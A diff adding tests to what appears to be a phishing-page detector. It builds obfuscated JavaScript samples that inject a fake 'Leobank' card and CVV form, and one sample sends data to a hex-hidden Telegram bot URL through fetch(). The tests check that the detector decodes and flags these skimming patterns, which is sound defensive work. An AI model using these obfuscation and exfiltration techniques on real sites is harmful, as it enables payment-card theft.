@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from pathlib import Path
 from typing import Any
 
@@ -239,6 +240,53 @@ def test_fields_a_script_creates_one_by_one(script: str, kinds: list[str]) -> No
 def test_a_fields_own_text_names_it_first(html: str, kind: str | None) -> None:
     feats = extract(f"<form>{html}</form>", None, load_lexicon())
     assert [f.kind for f in feats.fields] == ([kind] if kind else [])
+
+
+def _b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def _codes(text: str) -> str:
+    return ",".join(str(ord(c)) for c in text)
+
+
+_HIDDEN_FORM = '<h2>Leobank</h2><input placeholder="Kart nömrəsi"><input placeholder="CVV">'
+
+
+@pytest.mark.parametrize(
+    ("script", "kinds", "decoded"),
+    [
+        # base64 decoded by a renamed atob and run by an indirect eval
+        (f'var d = window["at" + "ob"]("{_b64(_HIDDEN_FORM)}"); app.innerHTML = d;', 2, 1),
+        # a char-code array held in a variable and decoded later
+        (
+            f"var A = [{_codes(_HIDDEN_FORM)}]; app.innerHTML = String.fromCharCode.apply(0, A);",
+            2,
+            1,
+        ),
+        # two levels: base64 of a script that holds char codes
+        (
+            f'eval(atob("{_b64(f"app.innerHTML=String.fromCharCode({_codes(_HIDDEN_FORM)})")}"))',
+            2,
+            2,
+        ),
+        # an image or a font in base64, and numbers without a fromCharCode call, hide nothing
+        (f'var img = "{base64.b64encode(bytes(range(256))).decode()}";', 0, 0),
+        (f"var data = [{_codes(_HIDDEN_FORM)}]; chart.draw(data);", 0, 0),
+    ],
+)
+def test_markup_hidden_in_encoded_strings(script: str, kinds: int, decoded: int) -> None:
+    feats = extract(f"<div id=app></div><script>{script}</script>", None, load_lexicon())
+    assert len(feats.script_fields) == kinds
+    assert feats.decoded == decoded
+    assert ("leobank" in feats.hidden_text) == bool(decoded)
+
+
+def test_a_messenger_address_hidden_by_hex_escapes(engine: Engine) -> None:
+    hidden = "".join(f"\\x{ord(c):02x}" for c in "https://api.telegram.org/bot123:abc/sendMessage")
+    html = f'<form><input name=cvv></form><script>var u = "{hidden}"; fetch(u);</script>'
+    verdict = engine.detector("page").analyze(PageInput(html, "https://pay-example.top/"))
+    assert "page.script.messenger" in [r.code for r in verdict.reasons]
 
 
 def test_structured_data_and_settings_are_no_fields() -> None:
